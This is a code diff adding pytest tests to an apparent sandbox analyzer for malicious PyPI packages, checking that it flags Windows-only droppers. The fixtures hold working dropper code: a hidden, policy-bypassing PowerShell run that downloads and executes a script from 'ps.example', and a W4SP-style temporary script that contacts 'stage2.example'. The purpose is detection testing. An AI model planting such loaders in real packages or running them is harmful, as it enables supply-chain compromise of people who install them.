@@ -239,3 +239,64 @@ def test_fallback_package_cannot_forge_its_state_or_replace_the_persona(tmp_path
     assert fb["kind"] == "legacy-setup" and "forged" not in install["reason"]
     assert "win32crypt" in fb["attempts"][-1]["standins"]
     assert docs["report"]["dynamic"]["phases"]["import"]["status"] == "completed"
+
+
+def test_installed_module_waiting_for_windows_runs_in_the_windows_world(tmp_path, results):
+    # pip installs it and its import does nothing on Linux; told it runs on Windows it writes its
+    # next stage to %TMP% and runs it with a hidden powershell, after asking ctypes for elevation
+    init = ("import os, sys, subprocess, ctypes\n"
+            "if sys.platform.startswith('win') and ctypes.windll.shell32.IsUserAnAdmin():\n"
+            "    put = os.getenv('TMP') + '\\\\ab.ps1'\n"
+            "    with open(put, 'w') as f:\n"
+            "        f.write('Invoke-Expression (New-Object Net.WebClient).DownloadString(\"http://ps.example/s\")')\n"
+            "    subprocess.Popen(['powershell.exe', '-NoProfile', '-ExecutionPolicy', 'Bypass',\n"
+            "                      '-WindowStyle', 'Hidden', '-File', put],\n"
+            "                     creationflags=subprocess.CREATE_NO_WINDOW).wait()\n")
+    docs = _analyze(pypi_sdist(tmp_path, "winimport", "1.0.0", _setup("winimport", "", init)), results)
+    dyn = docs["report"]["dynamic"]
+    assert "fallback" not in dyn["phases"]["install"]
+    assert not [c for c in dyn["phases"]["import"]["commands"] if c["argv"] and c["argv"][0] == "powershell.exe"]
+    win = dyn["worlds"]["windows"]
+    assert win["platform"] == "windows" and "windll" in win["phases"]["import"]["standins"]
+    ps = [c for c in win["phases"]["import"]["commands"] if c["argv"] and c["argv"][0] == "powershell.exe"]
+    assert ps and ps[0]["argv"][-1].endswith("\\ab.ps1") and "/AppData/Local/Temp" in ps[0]["argv"][-1]
+    assert any(c.startswith("powershell.exe") for c in win["differences"]["import"]["commands"])
+    v = docs["report"]["verdict"]
+    hidden = [f for f in v["findings"] if f["rule"] == "DYN-POWERSHELL-HIDDEN"]
+    assert hidden and hidden[0]["evidence"]["world"] == "windows"
+    assert v["label"] in ("malicious", "suspicious"), v["findings"]
+
+
+def test_installed_module_with_a_benign_windows_branch_stays_benign(tmp_path, results):
+    # colorama-style console set-up and a `cmd /c ver` behind a platform check, and a helper that
+    # runs commands when called: run in the windows world, and nothing it does is a finding
+    init = ("import os, sys, subprocess\n"
+            "if sys.platform == 'win32':\n"
+            "    import ctypes, winreg\n"
+            "    k = ctypes.windll.kernel32\n"
+            "    k.SetConsoleMode(k.GetStdHandle(-11), 7)\n"
+            "    VERSION = subprocess.run(['cmd', '/c', 'ver'], capture_output=True).stdout\n"
+            "    CONFIG = os.path.join(os.getenv('LOCALAPPDATA', ''), 'winbenign')\n"
+            "else:\n"
+            "    CONFIG = os.path.expanduser('~/.config/winbenign')\n"
+            "def run(argv):\n    return subprocess.run(argv, capture_output=True)\n")
+    docs = _analyze(pypi_sdist(tmp_path, "winbenign", "1.0.0", _setup("winbenign", "", init)), results)
+    win = docs["report"]["dynamic"]["worlds"]["windows"]
+    assert any(c["argv"][:3] == ["cmd", "/c", "ver"] for c in win["phases"]["import"]["commands"])
+    v = docs["report"]["verdict"]
+    assert v["label"] == "benign", v["findings"]
+
+
+def test_dropper_that_starts_the_script_it_wrote_is_followed_into_its_next_stage(tmp_path, results):
+    # the W4SP shape: a temporary file holding the next stage, `start`ed as on Windows
+    init = ("from tempfile import NamedTemporaryFile as _f\nfrom sys import executable as _e\n"
+            "from os import system as _s\n"
+            "_t = _f(delete=False, suffix='.py')\n"
+            "_t.write(b\"import urllib.request\\ntry:\\n    urllib.request.urlopen('http://stage2.example/p', timeout=5)\\n"
+            "except Exception:\\n    pass\\n\")\n"
+            "_t.close()\n_s(f'start {_e} {_t.name}')\n")
+    docs = _analyze(pypi_sdist(tmp_path, "startdrop", "1.0.0", _setup("startdrop", "", init)), results)
+    imp = docs["report"]["dynamic"]["phases"]["import"]
+    assert any(e["hostname"] == "stage2.example" for e in _http(imp))
+    v = docs["report"]["verdict"]
+    assert v["label"] == "malicious" and "DYN-HTTP-REQUEST" in v["rules_fired"], v["findings"]
